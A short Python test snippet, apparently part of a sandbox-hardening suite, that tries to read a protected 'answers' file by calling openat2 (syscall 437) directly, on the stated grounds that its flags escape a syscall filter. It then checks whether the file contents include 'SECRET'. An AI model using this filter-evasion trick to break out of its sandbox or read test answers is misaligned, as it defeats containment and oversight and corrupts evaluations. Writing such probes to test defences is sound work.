"""Opens the test examples by openat2, whose flags no filter can see."""

import os
import struct

STOPPED_AT = "L1"
THROUGH_AT = "L0"


def attack(t):
    how = struct.pack("QQQ", 0, 0, 0)
    fd = sc(437, -100, t["answers"].encode(), how, len(how))
    return fd >= 0 and b"SECRET" in os.read(fd, 100)
